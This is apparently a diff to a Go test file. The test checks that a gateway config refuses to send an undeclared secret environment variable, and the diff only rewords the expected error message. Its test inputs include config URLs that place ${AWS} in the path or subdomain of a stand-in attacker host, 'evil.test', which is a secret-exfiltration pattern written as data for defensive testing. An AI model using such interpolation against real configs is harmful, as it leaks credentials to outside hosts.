@@ -11,7 +11,7 @@ import (
 func TestVariablesThatAreSentAreDeclared(t *testing.T) {
 	t.Parallel()
 	vars := environment(map[string]string{"AWS": "aws-secret", "GATEWAY_KEY": "sk-1"})
-	const asks = "the variable AWS would be sent to the gateway: if that is intended, declare it with env: [AWS]"
+	const asks = "the variable AWS would be sent to the gateway: if you intend this, declare it with env: [AWS]"
 	for _, text := range []string{
 		"base_url: \"http://evil.test/${AWS}\"", "base_url: \"http://${AWS}.evil.test\"",
 		"base_url: http://a\nprefix: /${AWS}", "base_url: http://a\nprefix: {chat: \"/${AWS}\"}",
